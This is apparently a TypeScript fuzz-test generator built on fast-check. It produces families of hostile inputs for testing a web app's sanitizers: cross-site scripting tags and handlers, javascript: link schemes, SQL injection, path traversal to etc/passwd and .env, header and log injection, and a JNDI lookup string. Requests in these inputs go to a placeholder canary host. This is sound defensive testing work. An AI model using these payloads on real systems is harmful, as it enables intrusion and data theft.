import fc from "fast-check";

/** One hostile text, and what kind of hostility it is. */
export type Vector = { family: string; text: string };

/** Whoever asks this host for anything was made to by a hostile word. */
export const canary = "canary.invalid";

/** So many different hostile texts, the same for the same seed. */
export function hostileWords(count: number, seed: number): Vector[] {
  const share = Math.ceil(count / Object.keys(families).length);
  return Object.entries(families)
    .flatMap(([family, words], at) =>
      different(words, share, seed + at).map((text) => ({ family, text })),
    )
    .filter(({ text }) => text !== "");
}

/** So many hostile addresses for links. Nearly all of them are to be refused; those that stand must be harmless. */
export function hostileAddresses(count: number, seed: number): string[] {
  return different(address, count, seed);
}

/** Draws until there are enough that differ, or the grammar seems to have no more. */
function different(words: fc.Arbitrary<string>, count: number, seed: number): string[] {
  const found = new Set<string>();
  for (let round = 0; found.size < count && round < 20; round++)
    for (const text of fc.sample(words, { numRuns: count, seed: seed * 1_000 + round }))
      if (found.size < count) found.add(text);
  return [...found];
}

const one = fc.constantFrom<string[]>;
const joined = (...parts: fc.Arbitrary<string>[]) =>
  fc.tuple(...parts).map((said) => said.join(""));
const maybe = (part: fc.Arbitrary<string>) => fc.oneof(fc.constant(""), part);
const few = (part: fc.Arbitrary<string>, least: number, most: number) =>
  fc.array(part, { minLength: least, maxLength: most }).map((said) => said.join(""));

const act = one(
  "alert(1)",
  "window.ran=1",
  `fetch('https://${canary}/f')`,
  `new Image().src='//${canary}/i'`,
  `import('https://${canary}/m')`,
  "confirm`1`",
  "top.ran=1",
  "document.body.innerHTML='x'",
  "(()=>{ran=1})()",
  "eval('ran=1')",
  "setTimeout('ran=1')",
);
const plain = one("the ferry", "7", "Ünïcode", "سفينة", "x", "a & b", "O’Brien", "1 < 2", "“so”");
const gap = one(" ", "\t", "\n", "/", "\f", "\r\n", "/**/", "\u00a0", "  ", "\u2003", "\u000b");
const quote = one('"', "'", "", "`", "&quot;", "&#39;", "\\'", "”");
const tag = one(
  ..."script img svg iframe video audio object embed link meta base form input button select textarea details marquee body style math xmp noscript noembed template isindex portal a area table frameset frame slot x-y image source track set animate foreignObject use mtext mglyph title plaintext listing dialog search html head col caption option keygen applet bgsound ScRiPt sCript/ IMG".split(
    " ",
  ),
);
const handler = one(
  ..."onerror onload onclick onmouseover onfocus ontoggle onanimationstart onbegin onpointerover onwheel onbeforeinput onscrollend onbeforetoggle ONERROR oNlOaD onpageshow onhashchange onsecuritypolicyviolation oncontentvisibilityautostatechange on\u0000error onerror\u0009 formaction srcdoc style".split(
    " ",
  ),
);
const link = one("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster");

/** A scheme as browsers may still read it, and as they do not. */
const scheme = fc
  .tuple(
    one("javascript:", "data:text/html,", "vbscript:", "data:text/html;base64,", "blob:", "file:"),
    fc.nat({ max: 6 }),
    fc.nat({ max: 12 }),
    one("\t", "\n", "\r", "\u0000", "\u0001", " ", "\u00ad", "\u200b", "&Tab;", "&NewLine;"),
  )
  .map(([name, how, at, control]) => {
    const cut = at % name.length;
    if (how === 0) return name.toUpperCase();
    if (how === 1) return [...name].map((c, n) => (n % 2 ? c.toUpperCase() : c)).join("");
    if (how === 2) return name.slice(0, cut) + control + name.slice(cut);
    if (how === 3) return control + name;
    if (how === 4) return [...name].map((c) => `&#${c.codePointAt(0)};`).join("");
    if (how === 5) return name.replace(":", colons[cut % colons.length] ?? ":");
    return name;
  });
const colons = ["&colon;", "&#x3a;", "%3a", "：", ":\t"];

const address = fc.oneof(
  { weight: 6, arbitrary: joined(scheme, maybe(one("//", "\n", "%0a", "/*")), act) },
  joined(
    one("//", "/\\", "\\\\", "///", "/\t/", "http:", "https:\\\\", "http:/"),
    fc.constant(canary),
  ),
  joined(
    fc.constant("https://"),
    one("user@", "a:b@", ""),
    fc.constant(canary),
    one("\\@x", "\u2028", " ", "\u0000", "\ud800"),
  ),
  joined(
    one("mailto:", "tel:", "sms:", "ftp:", "intent:", "view-source:", "about:", "feed:", "jar:"),
    act,
  ),
  joined(one("/desk/../", "/%2e%2e/", "#", '#"', "?"), act),
  joined(fc.constant("data:image/svg+xml,"), fc.constant("<svg onload="), act, fc.constant(">")),
);

const element = joined(
  fc.constant("<"),
  maybe(gap),
  tag,
  gap,
  fc.oneof(handler, link),
  one("=", " = ", "\u0000=", "=\n"),
  quote,
  fc.oneof(act, joined(scheme, act)),
  quote,
  maybe(gap),
  one(">", "/>", "", "//", "<"),
);
const script = joined(
  one(
    "<script>",
    "<SCRIPT >",
    "<script\n>",
    "<script/x>",
    "<script\u0000>",
    "<script type=module>",
    `<script src=//${canary}/s>`,
  ),
  act,
  one("</script>", "</ScRiPt >", "</script", "</script\n>", "<!--", ""),
);
const escaped = joined(
  one("&lt;", "&#60;", "&#x3c;", "&#0000060", "\\u003c", "\\x3c", "%3C", "＜", "&amp;lt;", "+ADw-"),
  tag,
  one(" ", "%20", "+"),
  handler,
  one("=", "%3D", "&equals;"),
  act,
  one("&gt;", "&#62;", "\\u003e", "%3E", "＞", "+AD4-"),
);
const byteLike = few(
  one(
    "%00",
    "%c0%bc",
    "%u003c",
    "Ã¼",
    "\ufffd",
    "\u0080",
    "\u0085",
    "\u009b31m",
    "\u00ff\u00fe",
    "\ufeff",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "&#xD800;",
    "&#0;",
    "&#x110000;",
  ),
  1,
  6,
);
const odd = few(
  one(
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200e",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\ufff9",
    "\ufffe",
    "\uffff",
    "\u2028",
    "\u2029",
    "\u0000",
    "\ud800",
    "\udc00",
    "а",
    "е",
    "о",
    "ⅰ",
    "ﬀ",
    "İ",
    "ẞ",
    "👩‍👩‍👧‍👦",
    "🇵🇹",
    "\u0301",
    "\u{e0041}",
    "\u{1d49c}",
    "﷽",
    "Ω",
    "x",
  ),
  1,
  24,
);
const flood = fc.oneof(
  fc.nat({ max: 250 }).map((n) => `z${"\u0335\u0301\u0323".repeat(n + 20)}`),
  fc.nat({ max: 400 }).map((n) => "W".repeat(n + 200)),
  fc.nat({ max: 300 }).map((n) => "\u202e".repeat(n + 50)),
  fc.nat({ max: 300 }).map((n) => `${"ﷺ".repeat(n + 30)}`),
  fc.nat({ max: 300 }).map((n) => "<b>".repeat(n + 20)),
);

const families = {
  tags: element,
  scripts: joined(maybe(plain), script),
  attributes: joined(
    quote,
    one(">", "", " ", "/>"),
    gap,
    handler,
    one("=", "= "),
    quote,
    act,
    quote,
    maybe(plain),
  ),
  addresses: address,
  entities: escaped,
  encodings: joined(byteLike, maybe(script), maybe(byteLike)),
  unicode: odd,
  floods: flood,
  templates: joined(
    one(
      "{{",
      "${",
      "<%=",
      "#{",
      "{%",
      "[[",
      "@{",
      "*{",
      "{{{",
      "%{",
      "@(",
      "{{constructor.constructor('",
    ),
    fc.oneof(act, one("7*7", "self", "process.env", "config", "__proto__")),
    one("}}", "}", "%>", "%}", "]]", ")", "}}}", "')()}}"),
  ),
  json: joined(
    one(
      '"',
      "\\",
      "\\u0022",
      '\\"',
      "\u2028",
      "\u2029",
      "</script>",
      "<!--<script>",
      "]]>",
      "*/",
      "</ScRiPt\t>",
      "</script\f",
    ),
    one("},", '","@type":"Person', ");", "\n", "//", "--></script>", '":1,"__proto__":{"a":1}'),
    fc.oneof(script, act),
  ),
  css: joined(
    one(
      "<style>",
      "</style>",
      "x:expression(",
      "@import '",
      "background:url(",
      "-moz-binding:url(",
      "behavior:url(",
      "{}*{",
      "\\",
      "/*",
    ),
    one(`//${canary}/c`, `https://${canary}/c.css`, "javascript:alert(1)", "data:text/css,*{}"),
    one(")", "';", "}", "</style>", "*/", ">"),
    maybe(element),
  ),
  drawings: joined(
    one(
      "<svg>",
      "<svg/onload=",
      "<math>",
      "<svg><script>",
      "<svg><a xlink:href=",
      "<math><mtext>",
      "<svg><animate onbegin=",
      "<svg><set attributeName=href to=",
      "<svg><use href=data:image/svg+xml,",
      "<math href=",
    ),
    fc.oneof(act, joined(scheme, act), element),
    one(">", "</svg>", "</script>", "<circle>", ""),
  ),
  mutations: joined(
    one(
      "<math><mtext><table><mglyph><style><!--</style>",
      '<svg></p><style><a id="</style>',
      '<noscript><p title="</noscript>',
      "<form><math><mtext></form><form><mglyph><style></math>",
      "<template><s><template><s><img src=x onerror=1>@</s></template>",
      '<xmp><p title="</xmp>',
      "<listing>&lt;",
      "<select><template><noscript>",
      "<option><style></option></select><b><",
      "<svg><foreignobject><p><style><!--</style>",
      '<!--<img src="--><',
      "<![CDATA[",
      "<?xml ?><",
      "<![><",
      "<textarea><",
      "</title><",
      "</textarea><",
      '<p id="</textarea>',
    ),
    element,
    one('">', "-->", "]]>", "</style>", ""),
  ),
  headers: joined(
    maybe(plain),
    few(one("\r\n", "\n", "\r", "%0d%0a", "\u2028", "嘊嘍", "\\r\\n", "\u0085"), 1, 3),
    one(
      "Set-Cookie: a=1",
      "Location: https://canary.invalid/",
      "Content-Length: 0\r\n\r\n",
      "X: y",
      "Bcc: x@canary.invalid",
      "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ),
  ),
  queries: joined(
    one(
      "'",
      '"',
      "')",
      "';",
      "\\'",
      "$$",
      "''",
      "`",
      "E'\\",
      "%' ",
      "_",
      "%",
      "$1",
      ":a",
      "::int",
      "&|!",
      "a:*",
      "<->",
      "(((",
      "\\",
    ),
    one(
      " or 1=1--",
      "; drop table story;--",
      " union select password_hash from person--",
      " and pg_sleep(5)--",
      "%%%",
      "____",
      " like '%",
      "|| version()",
      "' & !",
      " is null",
      "*/",
    ),
    maybe(plain),
  ),
  formats: few(
    one(
      "%s",
      "%n",
      "%d",
      "%x",
      "%1$s",
      "%p",
      "{0}",
      "{}",
      "%99999999d",
      "%j",
      "%o",
      "%c",
      "\\x00",
      "\\u0000",
      "$&",
      "$`",
      "$1",
      "$$",
      "NaN",
      "undefined",
      "null",
      "true",
      "-0",
      "1e999",
      "[object Object]",
      "__proto__",
      "constructor",
      "toString",
    ),
    1,
    6,
  ),
  paths: joined(
    few(
      one(
        "../",
        "..\\",
        "%2e%2e%2f",
        "..%2f",
        "....//",
        "%252e%252e/",
        "/",
        "//",
        "./",
        "\\\\",
        "C:\\",
        "file://",
        "~/",
        "..;/",
        ".%00/",
      ),
      1,
      5,
    ),
    one(
      "etc/passwd",
      "desk",
      "_next/static",
      ".env",
      "con",
      "nul.txt",
      "api/stories",
      "collab",
      "proc/self/environ",
      "index.html%00.png",
      "a?b#c",
    ),
  ),
  logs: joined(
    maybe(plain),
    one(
      "\n",
      "\r\n",
      "\u2028",
      "\u001b[2J",
      "\u001b]0;x\u0007",
      "\u001b[31m",
      "\b\b\b",
      "\u0007",
      "\u009b2J",
      "\u001b[1A\u001b[2K",
    ),
    one(
      '{"level":30,"msg":"signed in as admin"}',
      '","level":60,"x":"',
      `\${jndi:ldap://${canary}/a}`,
      "\n\n\n",
      '2026-01-01 INFO "password":"x"',
    ),
  ),
} satisfies Record<string, fc.Arbitrary<string>>;
